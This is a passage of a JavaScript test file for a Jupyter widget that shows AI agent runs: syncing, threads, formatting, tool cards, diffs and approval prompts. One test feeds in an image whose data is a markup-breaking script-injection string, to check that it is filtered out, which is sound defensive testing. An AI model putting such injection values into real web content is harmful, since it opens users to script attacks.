      model.traits[name] = value;
      for (const handler of handlers.get(`change:${name}`) || []) handler();
    },
    save_changes: () => model.saved.push({ ...model.traits }),
    on: (name, handler) => handlers.set(name, [...(handlers.get(name) || []), handler]),
    off: (name, handler) => handlers.set(name, (handlers.get(name) || []).filter((h) => h !== handler)),
  };
  return model;
}

test("the kernel hears of last_seq at most twice a second, and of a new status at once", async () => {
  const model = fakeModel({ run_id: RUN, last_seq: 0, status: "running" });
  const sync = new ModelSync(model);
  sync.save(RUN, 5, "running");
  sync.save(RUN, 6, "running");
  assert.equal(model.saved.length, 0);
  sync.save(RUN, 7, "succeeded");
  assert.deepEqual(model.saved.map((s) => [s.last_seq, s.status]), [[7, "succeeded"]]);
  sync.save("run_older", 9, "failed", true);
  assert.equal(model.saved.length, 1, "a view of the run before Run again writes nothing");
  sync.dispose();
});

test("a widget model is a host: its run_id, reattached and followed drive the view", async () => {
  const model = fakeModel({ run_id: RUN, base_url: "/", reattached: true, followed: "" });
  const host = modelHost(model);
  assert.equal(host.runId(), RUN);
  assert.equal(host.reattached(), true);
  let calls = 0;
  const unsubscribe = host.subscribe(() => (calls += 1));
  model.set("followed", "run_first");
  model.set("run_id", "run_two");
  assert.equal(calls, 2);
  unsubscribe();
  model.set("run_id", "run_three");
  assert.equal(calls, 2);
  host.ranAgain(runObject({ run_id: "run_four", status: "queued" }), "run_three");
  assert.deepEqual([model.traits.run_id, model.traits.last_seq, model.traits.status], ["run_four", 0, "queued"]);
  assert.equal(model.saved.length, 1);
});

test("a widget model hears which follow-ups under its run ended, once per change", () => {
  const model = fakeModel({ run_id: RUN, base_url: "/", thread: [] });
  const host = modelHost(model);
  host.threadEnded([]);
  assert.equal(model.saved.length, 0, "nothing new: the kernel is not asked to write the record again");
  host.threadEnded(["run_f1"]);
  host.threadEnded(["run_f1"]);
  host.threadEnded(["run_f1", "run_f2"]);
  assert.deepEqual(model.saved.map((s) => s.thread), [["run_f1"], ["run_f1", "run_f2"]]);
  // Another page's view, or this one drawn again, that has not seen them yet takes none back:
  // two pages telling the kernel what each sees must not undo each other over and over.
  host.threadEnded([]);
  host.threadEnded(["run_f2"]);
  assert.equal(model.saved.length, 2);
  host.threadEnded(["run_f3"]);
  assert.deepEqual(model.traits.thread, ["run_f1", "run_f2", "run_f3"]);
});

test("durations, ages and event summaries read well", () => {
  assert.equal(formatDuration(980), "1.0 s");
  assert.equal(formatDuration(12_400), "12 s");
  assert.equal(formatDuration(185_000), "3 min 5 s");
  assert.equal(formatDuration(7_500_000), "2 h 5 min");
  assert.equal(formatAgo(0, 3_000), "just now");
  assert.equal(formatAgo(0, 185_000), "3 min ago");
  assert.equal(eventSummary({ a: 1, b: "two" }), "a=1 · b=two");
  assert.equal(eventSummary([1, 2]), "[1,2]");
});

test("the mime type names a run", () => {
  assert.equal(MIME_TYPE, "application/vnd.jupyter.agentruns.run+json");
});

test("a run_code step shows its code, its output and images, and inserts its code as a cell", async () => {
  const result = {
    code: "df.describe()", stdout: "", stderr: "", result: "count 3", displays: [],
    images: [{ mime: "image/png", data: "iVBORw0KGgo=" }, { mime: "image/svg+xml", data: "PHN2Zz4=" }, { mime: "image/png", data: "x\"><script>" }],
  };
  const tools = [{ call_id: "c1", name: "run_code", args: { code: "df.describe()" }, status: "completed", kind: "execute",
    title: "Run code in the kernel: df.describe()", result, content: [{ type: "text", text: "result:\ncount 3" }] }];
  await shown(fakeHost(), runObject({ snapshot: snapshotWith({ tools }) }));
  const card = el.querySelector(".agentruns-tool");
  assert.equal(card.querySelector("pre.agentruns-code code").textContent, "df.describe()");
  assert.equal(card.querySelector(".agentruns-tool-text").textContent, "result:\ncount 3");
  assert.equal(card.querySelector(".agentruns-tool-result"), null); // not the result's JSON
  assert.deepEqual([...card.querySelectorAll("img")].map((img) => img.getAttribute("src")), ["data:image/png;base64,iVBORw0KGgo="]);
  const asked = [];
  document.addEventListener("agentruns:insert-cell", (event) => { asked.push(event.detail.code); event.preventDefault(); }, { once: true });
  const insert = card.querySelector(".agentruns-insert-cell");
  insert.click();
  assert.deepEqual(asked, ["df.describe()"]);
  assert.equal(insert.textContent, "Inserted");
});

test("an execute_cell step shows its text and images, not its result's JSON", async () => {
  const result = { status: "applied", edit_id: "ed_x", cell_id: "c-1", execution_count: 3, images: [{ mime: "image/png", data: "iVBORw0KGgo=" }] };
  const tools = [{ call_id: "c1", name: "execute_cell", args: { cell_id: "c-1" }, status: "completed", kind: "execute",
    title: "Run the cell c-1", result, content: [{ type: "text", text: "Ran the cell c-1 (execution count 3); its outputs are in the notebook.\nresult:\n42" }] }];
  await shown(fakeHost(), runObject({ snapshot: snapshotWith({ tools }) }));
  const card = el.querySelector(".agentruns-tool");
  assert.match(card.querySelector(".agentruns-tool-text").textContent, /^Ran the cell c-1 .*\nresult:\n42$/);
  assert.equal(card.querySelector(".agentruns-tool-result"), null);
  assert.deepEqual([...card.querySelectorAll("img")].map((img) => img.getAttribute("src")), ["data:image/png;base64,iVBORw0KGgo="]);
  assert.equal(card.querySelector(".agentruns-insert-cell"), null); // the code is in its cell already
});

test("a notebook edit asked first shows the cell's change as a diff, not its details as JSON", async () => {
  const question = { request_id: "in_e", kind: "approval", title: "Change a cell in a.ipynb?", choices: ["approve", "deny"],
    status: "open", choice: null,
    details: { tool: "edit_cell", notebook: "a.ipynb", op: "edit", cell_id: "c-2", cell_type: "code", before: "y = x + 1", after: "y = x + 2" } };
  await shown(fakeHost(), runObject({ status: "waiting", snapshot: snapshotWith({ inputs: [question] }) }));
  const diff = el.querySelector(".agentruns-input .agentruns-diff");
  assert.ok(diff.open);
  assert.equal(diff.querySelector(".agentruns-diff-path").textContent, "a.ipynb · edit cell c-2");
  const lines = [...diff.querySelectorAll(".agentruns-diff-lines > *")].map((line) => line.textContent);
  assert.ok(lines.includes("-y = x + 1") && lines.includes("+y = x + 2"), lines.join("|"));
  assert.equal(el.querySelector(".agentruns-input .agentruns-input-details"), null);
});

test("an approval question about code shows the code as code", async () => {
  const question = { request_id: "in_c", kind: "approval", title: "Run this code in the notebook's kernel?", choices: ["approve", "deny"],
    status: "open", choice: null, details: { tool: "run_code", code: "import os\nos.listdir('.')", language: "python" } };
  await shown(fakeHost(), runObject({ status: "waiting", snapshot: snapshotWith({ inputs: [question] }) }));
  assert.equal(el.querySelector(".agentruns-input pre.agentruns-code").textContent, "import os\nos.listdir('.')");
});
